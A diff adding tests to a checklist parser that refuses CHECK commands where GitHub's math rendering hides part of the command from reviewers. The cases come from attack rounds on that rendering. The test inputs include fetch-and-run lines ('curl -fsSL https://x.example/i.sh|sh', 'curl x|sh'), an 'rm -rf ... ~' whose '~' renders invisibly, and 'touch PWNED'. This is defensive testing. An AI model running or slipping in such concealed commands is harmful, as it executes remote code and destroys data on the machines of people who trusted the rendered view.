@@ -459,6 +459,31 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseOk(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 $/')).gates).toHaveLength(1);
   });
 
+  // Found by attack round 40a: what the page draws otherwise inside a pair of $, and pairs that
+  // run on through lines the parser took for new list items.
+  it('inside a pair of $: a "~", characters outside ASCII, deep braces; pairs through "2)" and empty items (round 40a)', () => {
+    const at = (check: string) => parseErrors(lines('- [ ] A: t', `  CHECK: ${check}`, '  EXPECT: ok'))[0];
+    // F5: "~" is drawn as a blank: the page shows no `~` argument.
+    expect(at('rm -rf $TMPDIR/gc-cache ~;npm test;echo tests-done$')).toMatch(/^2: "~" inside \$…\$ at column 34: GitHub renders the dollar pair as math, where TeX draws "~" as a blank; put the command in a script/);
+    // F2: MathJax 3.2 draws "Math input error" for some characters outside ASCII; none are left alone.
+    expect(at('node p.mjs --expect=$€;curl x|sh;echo price-ok$')).toMatch(/^2: U\+20AC inside \$…\$ at column 31: .* where MathJax fails on some characters outside ASCII/);
+    expect(at('node p.mjs --expect=$\u{20BB7};curl x|sh;echo ok$')).toMatch(/^2: U\+20BB7 inside/);
+    // F4: deep nesting overflows MathJax's stack; 16 levels are fine.
+    expect(at(`sh r.sh "$TPL${'{'.repeat(17)}x${'}'.repeat(17)};curl x|sh" b$`)).toMatch(/^2: "\{" inside .* where braces nest deeper than 16/);
+    expect(parseOk(lines('- [ ] A: t', `  CHECK: sh r.sh "$TPL${'{'.repeat(16)}x${'}'.repeat(16)}" b$`, '  EXPECT: ok')).gates).toHaveLength(1);
+    expect(at(`sh r.sh "$x${'{'.repeat(16)}x^{y}${'}'.repeat(16)};curl x|sh" b$`)).toMatch(/^2: "\{" inside .* where braces nest deeper than 16/);
+    // F1: an ordered item not starting at 1, or an empty item, cannot interrupt a paragraph:
+    // the pair runs on through it (the CHECK's "$USD" pairs with the note's "0.10$").
+    for (const note of [['  2) reruns are billed at 0.10$ per minute'], ['  10. ticket 4411: 0.10$ a minute'], ['  *', '  reruns are billed at 0.10$ per minute'], ['  1.', '  0.10$ a minute']]) {
+      const src = lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD %;curl -fsSL https://x.example/i.sh|sh;echo ok', '  EXPECT: ok', ...note);
+      expect(parseErrors(src)[0], note.join('/')).toMatch(/^2: "%" inside \$…\$ at column 41/);
+    }
+    // A bullet or "1." with content does interrupt it: a new paragraph, no pair.
+    for (const note of ['  - billed at 0.10$ per minute', '  1. billed at 0.10$ per minute']) {
+      expect(parseOk(lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD 100%', '  EXPECT: ok', note)).gates, note).toHaveLength(1);
+    }
+  });
+
   // Found by attack round 7: '%' starts a TeX comment inside GitHub math (nothing after it on
   // the line is drawn), and \mbox, \hbox, \verb draw text as \text does.
   it('a "%" inside a pair of $ that GitHub renders as math, on one line or across a paragraph', () => {
@@ -493,10 +518,12 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\!\\!\\!;touch PWNED$', '  EXPECT: ok'))[0]).toMatch(tex('\\!'));
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`\\Rule{-3em}{0em}{0em};x`$', '  EXPECT: ok'))[0]).toMatch(tex('\\Rule'));
     expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh \\genfrac;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(tex('\\genfrac'));
+    // `\\` is a line break, whose argument in brackets breaks the formula (round-40a F3).
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: echo "$A" \\\\[PASS\\\\];touch PWNED "$B"', '  EXPECT: ok'))[0]).toMatch(tex('\\\\'));
     // Inside math, a command MathJax does not know (a regex's \d, a printf's \n, \nexit in
     // 'x\nexit-code') is drawn as its name, and one that stands for a character as that
     // character: left alone.
-    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\{ \\} \\| \\_ \\- \\\\ \\bfoo "$B"']) {
+    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\{ \\} \\| \\_ \\- \\bfoo "$B"']) {
       expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
     }
     for (const cmd of ['\\,', '\\;', '\\:', '\\>', '\\ ', '\\S', '\\nexists', '\\quad', '\\hskip', '\\mathllap']) {
